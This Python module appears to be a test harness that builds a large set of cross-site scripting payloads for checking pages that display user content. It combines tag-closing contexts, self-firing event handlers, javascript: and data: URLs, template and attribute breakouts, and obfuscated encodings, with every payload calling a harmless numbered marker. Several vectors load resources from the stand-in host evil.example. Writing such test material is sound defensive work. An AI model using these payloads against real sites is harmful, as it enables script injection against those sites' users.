"""Attacks on pages that show what strangers write: known vectors in many contexts and encodings, and naughty strings.

Each attack calls `ran(number)` with its own number, so that a browser can tell which of them ran.
"""

from __future__ import annotations

import base64
import itertools
import json
from collections.abc import Callable, Iterator
from pathlib import Path

NAUGHTY = Path(__file__).parent / "data" / "naughty-strings.json"

CONTEXTS = (
    '">',
    "'>",
    "",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "-->",
    "</svg>",
    "]]>",
    "`>",
)
"""What may have to be closed before a tag is one."""

FIRED = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "input autofocus onfocus",
    "textarea autofocus onfocus",
    "select autofocus onfocus",
    "a tabindex=1 id=x autofocus onfocus",
    "details open ontoggle",
    "video src=x onerror",
    "audio src=x onerror",
    "video><source onerror",
    "object data=x onerror",
    "iframe onload",
    "style onload",
    "link rel=stylesheet href=x onerror",
    "script src=x onerror",
    "marquee onstart",
    "image src=x onerror",
    "svg><animate attributeName=x dur=1s onbegin",
    "svg><set attributeName=x dur=1s onbegin",
    "embed src=x onload",
    "input type=image src=x onerror",
    "div contenteditable autofocus onfocus",
    "IMG SRC=x ONERROR",
    "img/src=x/onerror",
    "img\tsrc=x\nonerror",
    "math><img src=x onerror",
    "form><button autofocus onfocus",
    "x tabindex=1 autofocus onfocus",
    "picture><img src=x onerror",
)
"""Tags with the handlers that fire by themselves."""

WHOLE = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script/x>{js}</script/x>",
    "<script src='data:text/javascript,{js}'></script>",
    "<svg><script>{js}</script></svg>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src='javascript:parent.{js}'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='javascript:{js}'>",
    "<a href='javascript:{js}'>x</a>",
    "<a href='java\tscript:{js}'>x</a>",
    "<a href='&#106;avascript:{js}'>x</a>",
    "<form action='javascript:{js}'><button>x</button></form>",
    "<button formaction='javascript:{js}'>x</button>",
    "<math><a xlink:href='javascript:{js}'>x</a></math>",
    "<svg><a href='javascript:{js}'><text>x</text></a></svg>",
    "<meta http-equiv=refresh content='9;url=javascript:{js}'>",
    "<style>*{{background:url(https://evil.example/{js})}}</style>",
    "<link rel=stylesheet href='https://evil.example/{js}'>",
    "<img src='https://evil.example/{js}'>",
    "<base href='https://evil.example/{js}/'>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<x style='background:url(https://evil.example/{js})'>",
)
"""Vectors that bring their own end."""

BARE = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "\x01javascript:{js}",
    "java\nscript:{js}",
    "data:text/html,<script>{js}</script>",
    "vbscript:{js}",
    "{{{{ {js} }}}}",
    "{{% raw %}}{js}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "';{js};'",
    '";{js};"',
    "-{js}-",
    "\\';{js}//",
    "*/{js}/*",
    "\u2028{js}",
    '" onfocus={js} autofocus x="',
    "' onfocus={js} autofocus x='",
    '" style=animation-name:x onanimationstart={js} x="',
    "x onfocus={js} autofocus",
    "＜script＞{js}＜/script＞",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "\\u003cscript\\u003e{js}",
    "\u202e<script>{js}</script>",
    "<scr\u200bipt>{js}</script>",
    "<scr<script>ipt>{js}</script>",
    "<<script>{js}//<</script>",
)
"""Attacks without a tag of their own: addresses, templates, attributes, and other spellings of a tag."""

Encoding = Callable[[str], str]
ENCODINGS: tuple[Encoding, ...] = (
    str,
    lambda js: js.replace("ran", "window['ran']"),
    lambda js: js.replace("r", "\\u0072", 1),
    lambda js: js.replace("(", "`").replace(")", "`"),
    lambda js: f"eval(atob('{base64.b64encode(js.encode()).decode()}'))",
    lambda js: "".join(f"&#{ord(char)};" for char in js),
    lambda js: "".join(f"&#x{ord(char):x};" for char in js),
)
"""Ways to write the same call."""


def shapes() -> Iterator[str]:
    """Every attack with a place for its call: all contexts of every vector, and the bare ones."""
    tags = [f"<{tag}={{js}}>" for tag in FIRED]
    yield from BARE
    for context, shape in itertools.product(CONTEXTS, (*WHOLE, *tags)):
        yield context + shape


def payloads() -> list[str]:
    """All attacks, each with its own number; the encodings take turns."""
    turns = itertools.cycle(ENCODINGS)
    return [shape.format(js=next(turns)(f"ran({number})")) for number, shape in enumerate(shapes())]


def naughty() -> list[str]:
    """The naughty strings that other programs have stumbled over."""
    return list(json.loads(NAUGHTY.read_text(encoding="utf-8")))


def packs(attacks: list[str], size: int) -> list[str]:
    """The attacks in texts of so many each; what swallows the rest of a page comes last in its pack."""
    tame = [attack for attack in attacks if not attack.startswith(("<noscript", "<template"))]
    rest = [attack for attack in attacks if attack not in set(tame)]
    ordered = [*tame, *rest]
    return ["\n".join(ordered[begin : begin + size]) for begin in range(0, len(ordered), size)]
